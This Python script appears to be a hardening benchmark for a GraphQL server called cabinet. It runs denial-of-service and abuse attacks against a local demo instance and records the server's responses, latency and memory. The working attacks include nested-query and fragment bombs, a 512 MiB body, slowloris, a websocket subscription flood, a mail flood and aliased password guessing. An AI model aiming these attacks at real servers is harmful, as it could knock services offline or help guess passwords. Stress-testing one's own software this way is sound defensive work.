#!/usr/bin/env python3
"""The attacks of issue 19, run against a live `cabinet serve --demo`, each measured: what the server
answered, how long it took, how long /healthz took meanwhile, and the server's memory (VmRSS now, VmHWM the
peak so far) from /proc/<pid>.

    cabinet serve --demo --demo-password demo-password-123 &   # the release binary
    bench/hostile.py --url http://127.0.0.1:8080 --pid $(pgrep -f 'cabinet serve')

Prints one JSON object per attack. Standard library only. The attacks that lock the demo client's login
(password guessing) run last. Run it against a throwaway server: it is an attack.
"""

import argparse
import base64
import http.client
import json
import os
import socket
import struct
import threading
import time
import urllib.parse

PASSWORD = "demo-password-123"


class Server:
    def __init__(self, url, pid, password):
        u = urllib.parse.urlparse(url)
        self.host, self.port, self.pid, self.password = u.hostname, u.port or 80, pid, password

    def memory(self):
        out = {}
        try:
            with open(f"/proc/{self.pid}/status") as f:
                for line in f:
                    if line.startswith(("VmRSS", "VmHWM")):
                        k, v = line.split(":")
                        out[k] = round(int(v.split()[0]) / 1024, 1)
        except FileNotFoundError:
            out["dead"] = True
        return out

    def alive(self):
        return not self.memory().get("dead")

    def request(self, method, path, body=None, headers=None, timeout=120):
        c = http.client.HTTPConnection(self.host, self.port, timeout=timeout)
        c.request(method, path, body=body, headers=headers or {})
        r = c.getresponse()
        data = r.read()
        c.close()
        return r.status, data

    def gql(self, query, variables=None, token=None, timeout=120):
        h = {"content-type": "application/json"}
        if token:
            h["authorization"] = f"Bearer {token}"
        status, data = self.request("POST", "/graphql", json.dumps({"query": query, "variables": variables or {}}), h, timeout)
        try:
            return status, json.loads(data)
        except ValueError:
            return status, {"raw": data[:200].decode(errors="replace")}

    def healthz_ms(self):
        t = time.monotonic()
        try:
            status, _ = self.request("GET", "/healthz", timeout=60)
        except OSError as e:
            return f"failed: {e}"
        return round((time.monotonic() - t) * 1000, 1) if status == 200 else f"status {status}"

    def login(self, email):
        _, r = self.gql('mutation($e: String!, $p: String!) { login(input: {email: $e, password: $p}) { token } }',
                        {"e": email, "p": self.password})
        return r["data"]["login"]["token"]


def code(r):
    try:
        e = r["errors"][0]
        return f'{e.get("extensions", {}).get("code")} {e.get("extensions", {}).get("field") or ""}'.strip()
    except (KeyError, IndexError, TypeError):
        return "ok" if isinstance(r, dict) and r.get("data") else str(r)[:120]


def timed(f):
    t = time.monotonic()
    try:
        out = f()
    except Exception as e:  # the attack may kill the server: that is a result
        out = f"exception: {type(e).__name__}: {e}"
    return out, round(time.monotonic() - t, 3)


def healthz_during(s, work):
    """Runs work() while sampling /healthz; returns (work's result, seconds, worst /healthz ms)."""
    worst, done = [0.0], threading.Event()

    def sample():
        while not done.is_set():
            ms = s.healthz_ms()
            if isinstance(ms, float):
                worst[0] = max(worst[0], ms)
            else:
                worst[0] = ms
                return
            time.sleep(0.05)

    th = threading.Thread(target=sample)
    th.start()
    out, secs = timed(work)
    done.set()
    th.join()
    return out, secs, worst[0]


def report(name, s, **kw):
    kw.update(s.memory())
    kw["alive"] = s.alive()
    print(json.dumps({"attack": name, **kw}, ensure_ascii=False), flush=True)


# --- the attacks ------------------------------------------------------------------------------------------

def nesting(s):
    for name, value in (("6 KB of [ ]", "[" * 3000 + "1" + "]" * 3000),
                        ("8 KB of {a: }", "{a:" * 2000 + "1" + "}" * 2000)):
        if not s.alive():
            report(f"nesting: {name} (anonymous)", s, skipped="the server is gone")
            continue
        q = "{ companies(search: " + value + ") { totalCount } }"
        out, secs = timed(lambda: code(s.gql(q)[1]))
        time.sleep(0.5)
        report(f"nesting: {name} (anonymous)", s, answer=out, seconds=secs)


def fragments(s):
    q = "query { ...F29 } fragment F0 on QueryRoot { __typename }"
    for i in range(1, 30):
        q += f" fragment F{i} on QueryRoot {{ ...F{i - 1} ...F{i - 1} }}"

    def two():
        res = []
        ts = [threading.Thread(target=lambda: res.append(code(s.gql(q, timeout=300)[1]))) for _ in range(2)]
        [t.start() for t in ts]
        [t.join() for t in ts]
        return res

    out, secs, worst = healthz_during(s, two)
    report("fragments: 2 × 1 KB doubling", s, answers=out, seconds=secs, healthz_worst_ms=worst)


def big_body(s, mib=512):
    def send():
        c = http.client.HTTPConnection(s.host, s.port, timeout=300)
        total = mib * 1024 * 1024
        c.putrequest("POST", "/graphql")
        c.putheader("content-type", "application/json")
        c.putheader("content-length", str(total))
        c.endheaders()
        head = b'{"query":"{ __typename }","x":"'
        chunk = b"a" * (1024 * 1024)
        sent = 0
        try:
            c.send(head)
            sent = len(head)
            while sent + len(chunk) + 2 <= total:
                c.send(chunk)
                sent += len(chunk)
            c.send(b"a" * (total - sent - 2) + b'"}')
        except OSError as e:
            return f"server stopped reading after {sent // (1024 * 1024)} MiB ({type(e).__name__})"
        r = c.getresponse()
        return f"{r.status} after all {mib} MiB sent"

    out, secs = timed(send)
    report(f"body: {mib} MiB POST", s, answer=out, seconds=secs)


def slowloris(s, n=6, wait=30):
    conns = []
    for _ in range(n):
        c = socket.create_connection((s.host, s.port))
        c.sendall(b"POST /graphql HTTP/1.1\r\nHost: x\r\n")
        c.settimeout(wait)
        conns.append(c)
    started, closed = time.monotonic(), []
    for c in conns:
        try:
            left = max(0.1, wait - (time.monotonic() - started))
            c.settimeout(left)
            c.recv(1)
            closed.append(round(time.monotonic() - started, 1))
        except socket.timeout:
            closed.append(f"open after {wait} s")
        except OSError:
            closed.append(round(time.monotonic() - started, 1))
        c.close()
    report(f"slowloris: {n} half-sent headers", s, closed_after_s=closed, healthz_ms=s.healthz_ms())


class WebSocket:
    """A minimal graphql-transport-ws client (RFC 6455 framing, masked, text only)."""

    def __init__(self, s):
        self.sock = socket.create_connection((s.host, s.port))
        key = base64.b64encode(os.urandom(16)).decode()
        self.sock.sendall((f"GET /graphql/ws HTTP/1.1\r\nHost: {s.host}:{s.port}\r\nUpgrade: websocket\r\n"
                           f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
                           "Sec-WebSocket-Protocol: graphql-transport-ws\r\n\r\n").encode())
        buf = b""
        while b"\r\n\r\n" not in buf:
            buf += self.sock.recv(4096)
        head, self.rest = buf.split(b"\r\n\r\n", 1)
        assert b" 101 " in head.split(b"\r\n")[0], head

    def _frame(self, opcode, payload):
        mask = os.urandom(4)
        n = len(payload)
        hdr = bytes([0x80 | opcode])
        hdr += bytes([0x80 | n]) if n < 126 else (bytes([0x80 | 126]) + struct.pack(">H", n) if n < 65536
                                                  else bytes([0x80 | 127]) + struct.pack(">Q", n))
        self.sock.sendall(hdr + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))

    def send(self, obj):
        self._frame(1, json.dumps(obj).encode())

    def _read(self, n):
        while len(self.rest) < n:
            more = self.sock.recv(65536)
            if not more:
                raise ConnectionError("closed")
            self.rest += more
        out, self.rest = self.rest[:n], self.rest[n:]
        return out

    def recv(self, timeout):
        self.sock.settimeout(timeout)
        while True:
            b0, b1 = self._read(2)
            n = b1 & 0x7F
            if n == 126:
                n = struct.unpack(">H", self._read(2))[0]
            elif n == 127:
                n = struct.unpack(">Q", self._read(8))[0]
            payload = self._read(n)
            op = b0 & 0x0F
            if op == 9:
                self._frame(10, payload)
            elif op == 8:
                return {"type": "close", "code": struct.unpack(">H", payload[:2])[0] if len(payload) >= 2 else None}
            elif op == 1:
                m = json.loads(payload)
                if m.get("type") == "ping":
                    self.send({"type": "pong"})
                    continue
                return m

    def init(self, token):
        self.send({"type": "connection_init", "payload": {"Authorization": f"Bearer {token}"}})
        return self.recv(10)


def subscriptions(s, n=1000):
    admin = s.login("admin@demo.local")
    _, r = s.gql('{ companies(first: 1) { edges { node { id } } } }', token=admin)
    company = r["data"]["companies"]["edges"][0]["node"]["id"]
    ws = WebSocket(s)
    ws.init(admin)
    q = "subscription($c: UUID!) { debtChanged(companyId: $c, after: \"0.0\") { debt { total } } }"
    for i in range(n):
        ws.send({"id": str(i), "type": "subscribe", "payload": {"query": q, "variables": {"c": company}}})
    refused = 0
    try:
        while True:
            m = ws.recv(3)
            if m.get("type") == "error":
                refused += 1
    except (socket.timeout, ConnectionError):
        pass
    report(f"websocket: {n} subscriptions on one socket", s, running=n - refused, refused=refused)


def revoked_socket(s):
    token = s.login("client@demo.local")
    ws = WebSocket(s)
    ws.init(token)
    s.gql("mutation { logout { ended } }", token=token)
    started = time.monotonic()
    ws.send({"id": "after-logout", "type": "subscribe", "payload": {"query": "{ me { email } }"}})
    outcome = None
    try:
        while outcome is None:
            m = ws.recv(40)
            if m.get("type") == "close":
                outcome = f"closed {m.get('code')} after {round(time.monotonic() - started, 2)} s"
            elif m.get("id") == "after-logout" and m.get("type") in ("next", "error"):
                outcome = f"a query after logout answered: {json.dumps(m.get('payload'))[:120]}"
    except socket.timeout:
        outcome = "still open after 40 s"
    except ConnectionError:
        outcome = f"dropped after {round(time.monotonic() - started, 2)} s"
    report("websocket after logout", s, outcome=outcome)


def mail_flood(s, n=300):
    token = s.login("client@demo.local")
    old = " ".join(f'a{i}: requestLoginChange(input: {{newEmail: "v{i}@flood.example"}}) {{ accepted }}' for i in range(n))
    new = " ".join(f'a{i}: requestLoginChange(input: {{newEmail: "v{i}@flood.example", currentPassword: "{s.password}"}}) {{ accepted }}'
                   for i in range(n))
    _, r = s.gql("mutation { " + old + " }", token=token)
    if "currentPassword" in json.dumps(r):
        _, r = s.gql("mutation { " + new + " }", token=token)
    queued = sum(1 for v in (r.get("data") or {}).values() if (v or {}).get("accepted") is True)
    report(f"mail: {n} aliases of requestLoginChange", s, answer=code(r), mails_queued=queued)


def password_guessing(s, aliases=10, requests=30):
    client = s.login("client@demo.local")
    fields = " ".join(f'a{i}: changePassword(input: {{currentPassword: "guess-{i}-xxxx", newPassword: "n-e-w-password-1"}}) {{ me {{ email }} }}'
                      for i in range(aliases))
    q = "mutation { " + fields + " }"
    base = [timed(lambda: s.login("admin@demo.local"))[1] for _ in range(3)]
    answers, during = [], []

    def flood():
        ts = [threading.Thread(target=lambda: answers.append(code(s.gql(q, token=client, timeout=300)[1])))
              for _ in range(requests)]
        [t.start() for t in ts]
        time.sleep(0.3)
        for _ in range(3):
            during.append(timed(lambda: s.login("admin@demo.local"))[1])
        [t.join() for t in ts]

    _, secs = timed(flood)
    verdict = {}
    for a in answers:
        verdict[a] = verdict.get(a, 0) + 1
    report(f"password guessing: {requests} requests × {aliases} aliases of changePassword", s,
           answers=verdict, seconds=secs, admin_sign_in_s_before=sorted(base)[1],
           admin_sign_in_s_during=sorted(during)[1] if during else None)
    # One field per request, many requests: the lockout and the limit.
    codes = {}
    for i in range(12):
        _, r = s.gql('mutation($c: String!) { changePassword(input: {currentPassword: $c, newPassword: "n-e-w-password-1"}) { me { email } } }',
                     {"c": f"single-guess-{i}"}, token=client)
        codes[code(r)] = codes.get(code(r), 0) + 1
    _, r = s.gql('mutation($c: String!) { changePassword(input: {currentPassword: $c, newPassword: "n-e-w-password-1"}) { me { email } } }',
                 {"c": s.password}, token=client)
    report("password guessing: 12 single guesses, then the right password", s, guesses=codes,
           right_password_then=code(r))


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--url", default="http://127.0.0.1:8080")
    ap.add_argument("--pid", type=int, required=True, help="the server's process id, for its memory")
    ap.add_argument("--password", default=PASSWORD, help="the demo accounts' password")
    ap.add_argument("--only", nargs="*", help="run only these attacks")
    a = ap.parse_args()
    s = Server(a.url, a.pid, a.password)
    report("idle", s, healthz_ms=s.healthz_ms())
    attacks = [("subscriptions", subscriptions), ("revoked", revoked_socket), ("mail", mail_flood),
               ("slowloris", slowloris), ("body", big_body), ("fragments", fragments),
               ("guessing", password_guessing), ("nesting", nesting)]
    for name, f in attacks:
        if a.only and name not in a.only:
            continue
        if not s.alive():
            report(name, s, skipped="the server is gone")
            continue
        try:
            f(s)
        except Exception as e:
            report(name, s, failed=f"{type(e).__name__}: {e}")


if __name__ == "__main__":
    main()
